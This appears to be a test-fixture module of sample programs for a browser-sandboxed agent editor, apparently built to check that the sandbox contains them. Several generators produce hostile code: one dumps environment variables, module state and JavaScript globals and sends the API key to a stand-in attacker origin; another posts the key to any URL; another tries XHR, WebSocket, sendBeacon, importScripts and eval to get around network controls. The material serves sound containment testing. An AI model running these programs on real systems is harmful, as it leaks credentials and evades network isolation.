"""Programs that the tests put into the editor. Knows the library's door for readers, and runs nothing."""

from __future__ import annotations

from support.replies import call

ADD_ONE = (call("add", a=1, b=1),)

# The library's loop with two typed functions.
LIBRARY = '''\
from glassloop.agent import Agent
from glassloop.tools import tool


@tool
def add(a: int, b: int) -> int:
    """Add two whole numbers."""
    return a + b


@tool
def upper(text: str) -> str:
    """Write a text in capitals."""
    return text.upper()


agent = Agent(system="Use the tools.", tools=[add, upper])
'''

# A tool that never comes back: there is no await at which it could be cancelled.
HUNG = LIBRARY.replace("    return a + b\n", "    while True:\n        pass\n")

# A raw program that fails two calls deep in the reader's own code.
RAISES = """\
def halve(n):
    return n / 0


async def agent(question):
    return halve(len(question))
"""

SYNTAX_ERROR = """\
async def agent(question):
    answer = "fine"
    return answer +
"""

# A raw program that sends the note back without its result.
FORGETS_A_RESULT = """\
import json

from pyodide.http import pyfetch

from glassloop.connection import LLM_API_KEY, LLM_BASE_URL, LLM_MODEL


async def ask(messages):
    response = await pyfetch(
        f"{LLM_BASE_URL}/chat/completions",
        method="POST",
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {LLM_API_KEY}"},
        body=json.dumps({"model": LLM_MODEL, "messages": messages}),
    )
    return json.loads(await response.text())["choices"][0]["message"]


async def agent(question):
    messages = [{"role": "user", "content": question}]
    messages.append(await ask(messages))
    messages.append({"role": "user", "content": "Well?"})
    return (await ask(messages))["content"]
"""

ECHO = """\
async def agent(question):
    return "echo of " + question
"""


def hostile(evil: str, home: str) -> str:
    """Prints all it can find, and tries to carry the key out: to `evil`, and to `home` where no key belongs."""
    return f"""\
import gc
import json
import os
import sys

from pyodide.http import pyfetch

from glassloop.connection import LLM_API_KEY, LLM_BASE_URL, LLM_MODEL

EVIL, HOME = {evil!r}, {home!r}


def names_in_javascript():
    import js

    for name in dir(js.globalThis):
        yield name
        try:
            yield str(getattr(js, name))[:2000]
        except BaseException as error:
            yield repr(error)


async def send(url, **options):
    try:
        response = await pyfetch(url, **options)
        print(url, response.status, (await response.string())[:300], dict(response.headers))
    except BaseException as error:
        print(url, repr(error))


async def agent(question):
    print("environment", dict(os.environ))
    for name, module in sorted(sys.modules.items()):
        if name.startswith("glassloop") or name == "main":
            print(name, vars(module))
    print("strings", [text for found in gc.get_objects() if isinstance(found, (dict, list))
                      for text in (found.values() if isinstance(found, dict) else found)
                      if isinstance(text, str) and "canary" in text])
    try:
        print("javascript", list(names_in_javascript()))
    except BaseException as error:
        print(repr(error))
    headers = {{"Authorization": "Bearer " + LLM_API_KEY, "Content-Type": "application/json"}}
    talk = json.dumps({{"model": LLM_MODEL, "messages": [{{"role": "user", "content": LLM_API_KEY}}]}})
    # The bound origin, with the placeholder in the address and in the body.
    await send(HOME + "/models?key=" + LLM_API_KEY, headers={{"Authorization": "Bearer " + LLM_API_KEY}})
    await send(LLM_BASE_URL + "/chat/completions", method="POST", headers=headers, body=talk)
    # Another origin, as if it were the endpoint.
    await send(EVIL + "/chat/completions", method="POST", headers=headers, body=talk)
    return "done: " + LLM_API_KEY
"""


def posts_to(url: str) -> str:
    """Sends what it believes to be the key to `url`, and tells what came of it."""
    return f"""\
from pyodide.http import pyfetch

from glassloop.connection import LLM_API_KEY


async def agent(question):
    try:
        response = await pyfetch({url!r}, method="POST", headers={{"Authorization": "Bearer " + LLM_API_KEY,
                                 "Content-Type": "application/json"}}, body='{{"messages": []}}')
    except Exception as error:
        return f"not sent: {{error}}"
    return f"sent: {{response.status}}"
"""


def needs(package: str, index: str) -> str:
    """Asks for `package` from the index at `index`, and shouts with it."""
    module = package.replace("-", "_")
    return f'''\
# /// script
# dependencies = ["{package}"]
#
# [[tool.uv.index]]
# url = "{index}"
# ///
from {module} import shout


async def agent(question):
    return shout(question)
'''


def bypasses(url: str) -> str:
    """Tries every way to the network that a worker has, around the page's own. None may arrive at `url`."""
    return f"""\
URL = {url!r}


async def agent(question):
    import js

    tries = {{
        "xhr": lambda: _xhr(js),
        "socket": lambda: js.WebSocket.new(URL.replace("http", "ws")),
        "events": lambda: js.EventSource.new(URL),
        "scripts": lambda: js.importScripts(URL),
        "worker": lambda: js.Worker.new(URL),
        "urllib": lambda: __import__("urllib.request").request.urlopen(URL, timeout=1),
        "beacon": lambda: js.navigator.sendBeacon(URL, "x"),
        "eval": lambda: js.eval("fetch(" + repr(URL) + ")"),
    }}
    for name, attempt in tries.items():
        try:
            print(name, attempt())
        except BaseException as error:
            print(name, repr(error))
    return "tried " + ", ".join(tries)


def _xhr(js):
    request = js.XMLHttpRequest.new()
    request.open("GET", URL, False)
    request.send()
"""
